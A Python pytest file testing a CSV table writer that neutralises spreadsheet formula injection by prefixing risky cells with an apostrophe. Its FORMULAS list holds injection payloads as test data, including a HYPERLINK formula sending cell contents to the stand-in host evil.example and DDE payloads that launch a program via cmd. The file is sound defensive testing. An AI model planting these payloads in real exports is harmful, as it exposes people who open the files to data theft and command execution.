"""Tables are safe to open in a spreadsheet, and say what was put in."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import clevercsv
import pytest

from jobs.tables.writer import TableWriter, cell, without_apostrophe

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tharmless looking",
    "\r=1+1",
    "\rx",
    "\n=1+1",
    "\nx",
    "\0=1+1",
    "\0x",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1",
    '="a","b"',
    '=1+1",=2+2',
    "=1+1\n=2+2",
    "==1",
    "@",
]
STARTS = "=+-@\t\r\n\0＝＋－＠﹦﹢﹣﹫−"


def written(tmp_path: Path, *values: str | int | float | bool | None) -> list[str]:
    """The values, written and read back by Python's own reader."""
    path = tmp_path / "t.csv"
    with TableWriter(path, ("a",)) as table:
        for value in values:
            table.row([value])
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["a"]
    return [row[0] for row in rows[1:]]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_starts_a_formula(tmp_path: Path, formula: str) -> None:
    """A text that begins like a formula gets an apostrophe and is otherwise kept, to the letter."""
    (text,) = written(tmp_path, formula)
    assert text[0] not in STARTS and text.strip()[0] not in STARTS
    assert text == "'" + formula


def test_another_parser_finds_no_formula_either(tmp_path: Path) -> None:
    """All of them in one file, read by clevercsv's parser, which is written in C by others; it takes no NUL."""
    formulas = [one for one in FORMULAS if "\0" not in one]
    assert len(formulas) >= 30
    path = tmp_path / "t.csv"
    with TableWriter(path, ("=name", "n")) as table:
        for formula in formulas:
            table.row([formula, -1])
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(clevercsv.reader(file))
    assert rows == [["'=name", "n"], *[["'" + formula, "-1"] for formula in formulas]]


@pytest.mark.parametrize("formula", [*FORMULAS, "'=1", "''=1", "'\t", "'"])
def test_the_apostrophe_can_be_taken_away(formula: str) -> None:
    """Also where the text had apostrophes of its own: what a cell was made of is never in doubt."""
    text = cell(formula)[1:-1].replace('""', '"')
    assert without_apostrophe(text) == formula


@pytest.mark.parametrize(
    "text", ["plain", "a=b", "1-2", 'say "hi"', "a,b", "two\nlines", "Ünïcödé 日本", "", "'quoted'", "x\0y"]
)
def test_other_text_is_kept(tmp_path: Path, text: str) -> None:
    """Text that is no formula comes back as it was."""
    assert written(tmp_path, text) == [text]


def test_numbers_stay_numbers() -> None:
    """Negative numbers begin with a minus and are no formula; they are not quoted either."""
    assert [cell(value) for value in (-5, 2.5, 0, True, None, "-5")] == ["-5", "2.5", "0", '"true"', '""', '"\'-5"']


def test_a_lone_surrogate_does_not_stop_a_table(tmp_path: Path) -> None:
    """Half a character, which pages can contain, is replaced rather than raised."""
    assert written(tmp_path, "a\ud800b") == ["a?b"]


def test_a_second_reader_sees_the_same_table(tmp_path: Path) -> None:
    """Rows and columns stay whole whatever the cells contain: counted by joining them as lines made before."""
    path = tmp_path / "t.csv"
    with TableWriter(path, ("a", "b")) as table:
        table.row(['x,"y"\r\nz', 1])
        table.lines([f"{cell('=1')},{cell(2)}", f"{cell(None)},{cell(3)}"])
    assert _read_strictly(path.read_bytes().decode()) == [
        ["a", "b"],
        ['x,"y"\r\nz', "1"],
        ["'=1", "2"],
        ["", "3"],
    ]


def _read_strictly(text: str) -> list[list[str]]:
    """A reader of RFC 4180 that shares no code with Python's."""
    rows: list[list[str]] = []
    row: list[str] = []
    at = 0
    while at < len(text):
        if text[at] == '"':
            value, at = "", at + 1
            while True:
                end = text.index('"', at)
                value, at = value + text[at:end], end + 1
                if text[at : at + 1] != '"':
                    break
                value, at = value + '"', at + 1
        else:
            end = min(text.find(mark, at) for mark in (",", "\r\n") if mark in text[at:])
            value, at = text[at:end], end
        row.append(value)
        if text[at] == ",":
            at += 1
        else:
            assert text[at : at + 2] == "\r\n"
            rows.append(row)
            row, at = [], at + 2
    return rows


def test_numbers_are_numbers_to_a_database(tmp_path: Path) -> None:
    """What reads a table for real, a database import say, gets text as text and numbers as numbers."""
    rows = [("=1+1", 7), ("x", -3)]
    path = tmp_path / "t.csv"
    with TableWriter(path, ("name", "count")) as table:
        for row in rows:
            table.row(row)
    with path.open(newline="") as file, sqlite3.connect(":memory:") as database:
        database.execute("create table t (name text, count integer)")
        database.executemany("insert into t values (?, ?)", list(csv.reader(file))[1:])
        assert database.execute("select name, count from t order by count").fetchall() == [("x", -3), ("'=1+1", 7)]
